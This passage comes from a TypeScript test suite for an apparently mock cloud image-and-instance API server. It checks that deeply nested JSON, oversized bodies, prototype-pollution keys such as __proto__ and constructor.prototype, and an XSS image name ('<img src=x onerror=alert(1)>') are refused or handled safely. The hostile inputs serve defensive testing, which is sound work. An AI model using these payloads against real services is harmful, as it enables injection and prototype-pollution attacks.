    expectError(res, 'InvalidParameter', /`ImageName(\.0)+` nests deeper than 8 levels/);
  });

  it.each([1_000, 10_000, 100_000, 1_000_000])('an unknown parameter holding objects nested %i deep', async (depth) => {
    const res = await hostile('DescribeImages', {}, { rawBody: `{"Deep":${nestedObject(depth)}}` });
    expectError(res, 'InvalidParameter', /`Deep(\.a)+` nests deeper than 8 levels/);
  });

  it('a free-form parameter (RunInstances InternetAccessible) holding objects nested 10,000 deep', async () => {
    const body = `{"Placement":{"Zone":"ap-guangzhou-3"},"ImageId":"${PUBLIC}","InstanceType":"S5.MEDIUM4","DryRun":true,"InternetAccessible":${nestedObject(10_000)}}`;
    const res = await hostile('RunInstances', {}, { rawBody: body });
    expectError(res, 'InvalidParameter', /`InternetAccessible(\.a)+` nests deeper than 8 levels/);
  });

  it('a 900 KB description is refused as too long', async () => {
    const res = await hostile('ModifyImageAttribute', { ImageId: REDIS, ImageDescription: ten(900 * 1024) });
    expectError(res, 'InvalidParameterValue.TooLarge', /description.*256/i);
  });

  it('a 900 KB list of account IDs is refused at the item limit', async () => {
    const ids = accountIds(70_000);
    expect(JSON.stringify(ids).length).toBeGreaterThan(900_000);
    const res = await hostile('ModifyImageSharePermission', { ImageId: REDIS, AccountIds: ids, Permission: 'SHARE' });
    expectError(res, LIMITED, /`AccountIds`.*100/);
  });

  it('a 900 KB unknown parameter is refused by name', async () => {
    const res = await hostile('DescribeImages', { Padding: ten(900 * 1024) });
    expectError(res, 'UnknownParameter', /`Padding`/);
  });
});

// ---------------------------------------------------------------- prototype pollution

describe('prototype-pollution keys are refused as unknown parameters and pollute nothing', () => {
  afterAll(expectPrototypesClean);

  it.each([
    [
      '__proto__ at the top',
      'ModifyImageAttribute',
      `{"ImageId":"${REDIS}","__proto__":{"polluted":"yes","ImageName":"via-proto"}}`,
      /`__proto__`/,
    ],
    [
      'constructor.prototype at the top',
      'ModifyImageAttribute',
      `{"ImageId":"${REDIS}","constructor":{"prototype":{"polluted":"yes"}}}`,
      /`constructor`/,
    ],
    ['prototype at the top', 'DescribeImages', '{"prototype":{"polluted":"yes"}}', /`prototype`/],
    ['hasOwnProperty at the top', 'DescribeImages', '{"hasOwnProperty":1}', /`hasOwnProperty`/],
    [
      '__proto__ in a filter',
      'DescribeImages',
      '{"Filters":[{"Name":"image-name","Values":["x"],"__proto__":{"polluted":"yes"}}]}',
      /`Filters\.0\.__proto__`/,
    ],
    [
      '__proto__ in Placement',
      'RunInstances',
      `{"Placement":{"Zone":"ap-guangzhou-3","__proto__":{"isAdmin":true}},"ImageId":"${PUBLIC}","InstanceType":"S5.MEDIUM4"}`,
      /`Placement\.__proto__`/,
    ],
    [
      '__proto__ in SystemDisk',
      'RunInstances',
      `{"Placement":{"Zone":"ap-guangzhou-3"},"ImageId":"${PUBLIC}","InstanceType":"S5.MEDIUM4","SystemDisk":{"__proto__":{"DiskSize":1}}}`,
      /`SystemDisk\.__proto__`/,
    ],
  ])('%s', async (_label, action, body, names) => {
    const res = await hostile(action, {}, { rawBody: body });
    expectError(res, 'UnknownParameter', names);
    expectPrototypesClean();
  });

  it('an image name set through __proto__ is not applied', async () => {
    await hostile(
      'ModifyImageAttribute',
      {},
      { rawBody: `{"ImageId":"${REDIS}","__proto__":{"ImageName":"via-proto"}}` },
    );
    expect((await imageById(REDIS))?.ImageName).toBe('redis-cache-debian12');
  });

  it('__proto__ inside a free-form parameter pollutes nothing', async () => {
    const body = `{"Placement":{"Zone":"ap-guangzhou-3"},"ImageId":"${PUBLIC}","InstanceType":"S5.MEDIUM4","DryRun":true,"InternetAccessible":{"__proto__":{"polluted":"yes"}},"LoginSettings":{"constructor":{"prototype":{"hacked":1}}}}`;
    const res = await hostile('RunInstances', {}, { rawBody: body });
    expect(res.Error?.Code).toBe('DryRunOperation');
    expectPrototypesClean();
  });

  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'])(
    'X-TC-Action %s is not an action',
    async (action) => {
      const res = await hostile(action, {});
      expectError(res, 'InvalidAction', new RegExp(action));
    },
  );

  it.each(['__proto__', 'constructor', 'toString'])('X-TC-Region %s is not a region', async (region) => {
    const res = await hostile('DescribeImages', {}, { region });
    expectError(res, 'InvalidRegion.NotFound', new RegExp(region));
  });

  it.each(['__proto__', 'constructor'])('account %s does not exist', async (account) => {
    const res = await hostile('DescribeImages', {}, { account });
    expect(res.Error?.Code).toBe('AuthFailure.SecretIdNotFound');
  });

  it.each(['__proto__', 'constructor', 'toString'])('account ID %s is a malformed recipient', async (id) => {
    const res = await hostile('ModifyImageSharePermission', { ImageId: REDIS, AccountIds: [id], Permission: 'SHARE' });
    expectError(res, 'InvalidParameterValue.InvalidAppIdFormat', new RegExp(id));
  });

  it.each(['__proto__', 'constructor'])('image ID %s is malformed', async (id) => {
    const res = await hostile('DeleteImages', { ImageIds: [id] });
    expectError(res, 'InvalidImageId.Malformed', /Image ID/);
  });
});

// ---------------------------------------------------------------- the HTTP server's body limit

describe('the standalone HTTP server on 127.0.0.1', () => {
  let srv: MockApiServer;
  let host = '';
  const backend = createBackend();

  beforeAll(async () => {
    srv = createMockApiServer({ backend, port: 0 });
    const { port } = await srv.listen();
    host = `127.0.0.1:${port}`;
  });
  afterAll(() => srv.close());
  // msw/node intercepts fetch; let loopback requests to this server through.
  beforeEach(() => mswServer.use(http.all(/^http:\/\/127\.0\.0\.1:\d+\//, () => passthrough())));

  async function signed(
    action: string,
    body: string,
    account = A2,
  ): Promise<{ status: number; json: { Response: ApiResponse } }> {
    tried++;
    const cred = demoCredential(account);
    const headers = signTc3({
      ...cred,
      action,
      region: 'ap-guangzhou',
      body,
      host,
      timestamp: Math.floor(Date.now() / 1000),
    });
    delete headers.Host;
    const before = JSON.stringify(backend.data());
    const res = await fetch(`http://${host}/`, { method: 'POST', headers, body });
    const json = (await res.json()) as { Response: ApiResponse };
    expect(json.Response.RequestId).toMatch(UUID);
    expect(json.Response.Error?.Code).not.toBe('InternalError');
    if (json.Response.Error) expect(JSON.stringify(backend.data())).toBe(before);
    return { status: res.status, json };
  }

  it('answers a 900 KB body (under the 1 MiB limit) with the specific error for its content', async () => {
    const body = JSON.stringify({
      ImageId: seededImageId(A2, 'ap-guangzhou', 'partner-mysql-debian11'),
      ImageDescription: ten(900 * 1024),
    });
    const { status, json } = await signed('ModifyImageAttribute', body);
    expect(status).toBe(200);
    expectError(json.Response, 'InvalidParameterValue.TooLarge', /description.*256/i);
  });

  it('refuses a body over 1 MiB as too large, and keeps serving', async () => {
    const body = JSON.stringify({ Padding: ten(1100 * 1024) });
    const { status, json } = await signed('DescribeImages', body);
    expect(status).toBe(200);
    expectError(json.Response, 'InvalidParameter', /exceeds 1 MiB/);
    const after = await signed('DescribeImageQuota', '{}');
    expect(after.json.Response.ImageNumQuota).toBe(10);
  });

  it('accepts a markup name over HTTP and returns it verbatim', async () => {
    const id = seededImageId(A2, 'ap-guangzhou', 'partner-mysql-debian11');
    const name = '<img src=x onerror=alert(1)>';
    expect(
      (await signed('ModifyImageAttribute', JSON.stringify({ ImageId: id, ImageName: name }))).json.Response.Error,
    ).toBeUndefined();
    const list = await signed('DescribeImages', JSON.stringify({ ImageIds: [id] }));
    expect((list.json.Response.ImageSet as { ImageName: string }[])[0]!.ImageName).toBe(name);
  });

  it('ignores prototype keys in a GET query and pollutes nothing', async () => {
    tried++;
    const cred = demoCredential(A1);
    const query = '__proto__.polluted=yes&constructor.prototype.hacked=1&Limit=1';
    const headers = signTc3({
      ...cred,
      action: 'DescribeImages',
      region: 'ap-guangzhou',
      body: '',
      host,
      method: 'GET',
      query,
      timestamp: Math.floor(Date.now() / 1000),
    });
    delete headers.Host;
    const res = await fetch(`http://${host}/?${query}`, { headers });
    const json = (await res.json()) as { Response: ApiResponse };
    expect(json.Response.Error).toBeUndefined();
    expect(json.Response.ImageSet as unknown[]).toHaveLength(1);
    expectPrototypesClean();
  });
});

describe('hostile inputs tried', () => {
  afterAll(() => console.log(`hostile-input: ${tried} hostile inputs tried`));

  it('tried several hundred hostile inputs, and no prototype was polluted', () => {
    expect(tried).toBeGreaterThan(300);
    expectPrototypesClean();
  });
});
